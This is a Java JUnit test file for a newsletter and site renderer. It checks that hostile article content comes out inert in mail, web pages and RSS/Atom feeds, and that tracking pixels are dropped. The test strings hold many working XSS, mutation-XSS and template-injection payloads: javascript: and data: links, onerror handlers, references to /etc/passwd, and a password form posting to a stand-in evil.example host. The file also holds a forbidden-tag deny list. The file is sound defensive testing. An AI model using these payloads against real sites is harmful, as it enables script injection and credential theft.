package gazette.render;

import static org.assertj.core.api.Assertions.assertThat;

import gazette.articles.Article;
import gazette.articles.StoredArticle;
import gazette.articles.parsing.ArticleParser;
import gazette.articles.parsing.ParseResult;
import gazette.articles.parsing.ParsedArticle;
import gazette.config.FolderConfig;
import gazette.issues.Issue;
import gazette.issues.Section;
import gazette.render.feeds.Feed;
import gazette.render.feeds.FeedItem;
import gazette.render.feeds.FeedRenderer;
import gazette.render.mail.MailRenderer;
import gazette.render.mail.RenderedMail;
import gazette.render.pages.PageRenderer;
import gazette.render.themes.Themes;
import gazette.sources.folders.ArticleFile;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.InputSource;

/// From an article's file to every outlet: what is hostile comes out harmless, and the layout stays whole.
class HostileArticleTest {
    private static final String FORBIDDEN = "script, iframe, frame, object, embed, applet, form, input, button, select,"
            + " textarea, svg, math, base, video, audio, template, noscript, meta[http-equiv=refresh]";

    private final Themes themes = RenderFixture.themes();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "</td></table>",
                "</td></tr></tbody></table></td></tr></table></body></html>",
                "<td>a<td>b<tr>c",
                "<table><tr><td>a",
                "<table role=presentation><tr><td>a</td><td>b</td></tr></table>",
                "${x} ${7*7} #{x} [=x]",
                "<#list 1..9 as x>a</#list> <#include \"/etc/passwd\"> <@macro/>",
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\n>alert(1)</script\t\n>",
                "<img src=x onerror=alert(1)>",
                "<img src=https://evil.example/a.png oNeRrOr=alert(1)>",
                "<img/src=\"https://evil.example/a.png\"/onload=alert(1)>",
                "<p onclick=\"alert(1)\" onmouseover='alert(1)'>a</p>",
                "[a](javascript:alert(1))",
                "[a](&#106;avascript:alert(1))",
                "[a](java%0ascript:alert(1))",
                "<a href=\" javascript:alert(1)\">a</a>",
                "<a href=\"jAvAsCrIpT&colon;alert(1)\">a</a>",
                "<a href=\"java&#x09;script:alert(1)\">a</a>",
                "<a href=\"&#0000106avascript:alert(1)\">a</a>",
                "<a href=\"\u0001javascript:alert(1)\">a</a>",
                "[a](vbscript:msgbox(1))",
                "[a](data:text/html;base64,PHNjcmlwdD4=)",
                "<a href=\"DATA:text/html,<script>alert(1)</script>\">a</a>",
                "<a href=\"file:///etc/passwd\">a</a>",
                "<javascript:alert(1)>",
                "![a](javascript:alert(1))",
                "![a](data:image/svg+xml,<svg onload=alert(1)>)",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=\"javascript:alert(1)\"><maction actiontype=\"statusline\">a</maction></math>",
                "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<style>*{display:none}</style>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"background:url(javascript:alert(1));width:expression(alert(1));position:fixed\">a</p>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
                "<form action=https://evil.example/><input name=password><button>b</button></form>",
                "<iframe src=https://evil.example/></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=https://evil.example/></object><embed src=https://evil.example/>",
                "<video src=x onerror=alert(1)><source src=x></video><audio src=x></audio>",
                "<template><script>alert(1)</script></template>",
                "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<xmp><script>alert(1)</script></xmp><plaintext>",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<!--[if mso]><script>alert(1)</script><![endif]--><![endif]-->",
                "<div id=\"foot\" class=\"foot\" name=\"x\">a</div>",
                "<b><i><u><a href=https://example.org>unclosed",
                "</p></div></article></main></body>",
                "```\n</code></pre></td><script>alert(1)</script>\n```",
                "`</code><script>alert(1)</script>`",
                "| a | </td></table> |\n|---|---|\n| <script> | b |",
                "[^1]\n\n[^1]: <img src=x onerror=alert(1)></li></ol></td>",
                "[</td>](https://example.org/\"onmouseover=\"alert(1))",
                "[a](https://example.org/ \"' onclick='alert(1)\")",
                "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"
            })
    void aBodyIsHarmless(String body) {
        StoredArticle article = article("title: Harmless", "before\n\n" + body + "\n\nafter\n");
        assertHarmless(article);
        assertThat(mail(article).select("p:contains(before)")).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=https://t.example/p.gif width=1 height=1>",
                "<img src=https://t.example/p.gif width=0>",
                "<img src=https://t.example/p.gif height=\"1px\">",
                "<img src=https://t.example/p.gif style=\"width:1px;height:1px\">",
                "<img src=https://t.example/p.gif style=\"DISPLAY : none\">",
                "<img src=https://t.example/p.gif style=\"visibility:hidden\">",
                "<img src=https://t.example/p.gif style=\"max-height: 0\">",
                "<img src=https://t.example/p.gif style=\"opacity:0\">",
                "<img src=https://t.example/p.gif hidden>",
                "<div style=\"display:none\"><img src=https://t.example/p.gif></div>"
            })
    void aPixelThatTracksIsLeftOut(String pixel) {
        assertThat(mail(article("title: Harmless", "before\n\n" + pixel + "\n\nafter\n"))
                        .select("img"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "</td></table>",
                "<script>alert(1)</script>",
                "${x}",
                "<#list 1..9 as x>",
                "\" onerror=\"alert(1)",
                "' onerror='alert(1)",
                "<img src=x onerror=alert(1)>",
                "&lt;script&gt;",
                "<b>unclosed",
                "]]><x>",
                "--><script>alert(1)</script>",
                "</title></head><body>",
                "javascript:alert(1)"
            })
    void aHeadIsLiteral(String words) {
        String quoted = "\"" + words.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
        String head = "title: " + quoted + "\nauthor: " + quoted + "\nsummary: " + quoted + "\ntags: [" + quoted + "]";
        StoredArticle article = article(head, "before\n");
        assertThat(article.article().title()).isEqualTo(words);
        assertHarmless(article);
        assertThat(mail(article).text()).contains(words);
        assertThat(edition(article).text()).contains(words);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"javascript:alert(1)", "data:text/html,x", "https://example.org/\\\"><script>alert(1)</script>"})
    void aLinkInTheHeadIsNone(String link) {
        var read = parse("a.md", "---\ntitle: T\ncanonical: \"" + link + "\"\ncover: \"" + link + "\"\n---\nx\n");
        if (read instanceof ParsedArticle ready) {
            assertHarmless(filed(ready.article()));
        }
    }

    @Test
    void theSameAsAPageOfHtml() {
        String page = "<html><head><title>Harmless</title><base href=https://evil.example><style>*{}</style></head>"
                + "<body onload=alert(1)><article><p>before</p></td></table><script>alert(1)</script>"
                + "<p>after<svg/onload=alert(1)><a href=javascript:alert(1)>a</a></p></article></body></html>";
        assertHarmless(filed(((ParsedArticle) parse("a.html", page)).article()));
    }

    private void assertHarmless(StoredArticle article) {
        StoredArticle plain = article("title: Harmless", "before\n\nafter\n");
        var renderer = new PageRenderer(themes, "plain");
        Document letter = mail(article);
        assertThat(letter.select("table[role=presentation]"))
                .hasSameSizeAs(mail(plain).select("table[role=presentation]"));
        assertThat(letter.select("style, meta, link")).hasSameSizeAs(mail(plain).select("style, meta, link"));
        assertThat(letter.select(".foot").eachText().getLast()).contains("Harbour Lane");
        assertThat(letter.select(".sheet > tbody > tr"))
                .hasSameSizeAs(mail(plain).select(".sheet > tbody > tr"));
        assertInert(letter);
        assertInert(Jsoup.parse(letter.html()));
        Issue issue = issue(article);
        Stream.of(
                        renderer.articlePage(RenderFixture.SITE, article, List.of(), List.of(RenderFixture.WEEKLY)),
                        renderer.issuePage(RenderFixture.SITE, RenderFixture.WEEKLY, issue))
                .map(Jsoup::parse)
                .map(HostileArticleTest::withoutSignUp)
                .forEach(HostileArticleTest::assertInert);
        assertFeedsAreWhole(article);
    }

    /// Takes away the one form and the data for programs that a page has itself.
    private static Document withoutSignUp(Document page) {
        assertThat(page.select("script"))
                .hasSize(2)
                .allMatch(data -> data.attributes().size() == 1);
        page.select("head > script[type=application/ld+json]").remove();
        assertThat(page.select("form").eachAttr("action")).containsExactly("/subscribe");
        page.expectFirst("main > .column > .sign-up").remove();
        return page;
    }

    private static void assertInert(Document page) {
        assertThat(page.select(FORBIDDEN)).isEmpty();
        for (Element element : page.select("*:not(link[rel=icon])")) {
            element.attributes().forEach(attribute -> {
                assertThat(attribute.getKey().toLowerCase(Locale.ROOT)).doesNotStartWith("on");
                if (List.of("href", "src", "action", "background").contains(attribute.getKey())) {
                    assertThat(attribute.getValue()).matches("(?s)(https?:|mailto:|#|/).*");
                }
                if (attribute.getKey().equals("style")) {
                    assertThat(attribute.getValue()).doesNotContainIgnoringCase("expression", "javascript", "evil");
                }
            });
        }
    }

    private void assertFeedsAreWhole(StoredArticle article) {
        var feeds = new FeedRenderer(themes);
        Feed feed = RenderFixture.feed(List.of(article));
        for (String xml : List.of(feeds.feed(FeedFormat.RSS, feed), feeds.feed(FeedFormat.ATOM, feed))) {
            try {
                var parsed = DocumentBuilderFactory.newInstance()
                        .newDocumentBuilder()
                        .parse(new InputSource(new StringReader(xml)));
                assertThat(parsed.getElementsByTagName("item").getLength()
                                + parsed.getElementsByTagName("entry").getLength())
                        .isOne();
            } catch (Exception e) {
                throw new AssertionError(xml, e);
            }
        }
        assertInert(Jsoup.parse(FeedItem.of(RenderFixture.SITE, article).html()));
    }

    private Document mail(StoredArticle article) {
        return Jsoup.parse(edition(article).html());
    }

    private RenderedMail edition(StoredArticle article) {
        return new MailRenderer(themes)
                .renderIssue(RenderFixture.SITE, RenderFixture.WEEKLY, "plain", issue(article), RenderFixture.LINKS);
    }

    private static Issue issue(StoredArticle article) {
        return RenderFixture.issue(1, article.article().title(), new Section("", List.of(article)));
    }

    private static StoredArticle article(String head, String body) {
        return filed(((ParsedArticle) parse("a.md", "---\n" + head + "\n---\n" + body)).article());
    }

    private static StoredArticle filed(Article article) {
        return new StoredArticle(
                1, "a", "tag:lamplight.example,2026:a/a", RenderFixture.NOW, RenderFixture.NOW, article);
    }

    private static ParseResult parse(String name, String text) {
        Path folder = Path.of("/no/such/folder");
        return new ArticleParser(RenderFixture.PUBLICATION)
                .parse(
                        new ArticleFile(
                                "own",
                                Path.of(name),
                                folder.resolve(name),
                                text.getBytes(StandardCharsets.UTF_8),
                                RenderFixture.NOW),
                        new FolderConfig("own", folder, List.of(), 1));
    }
}
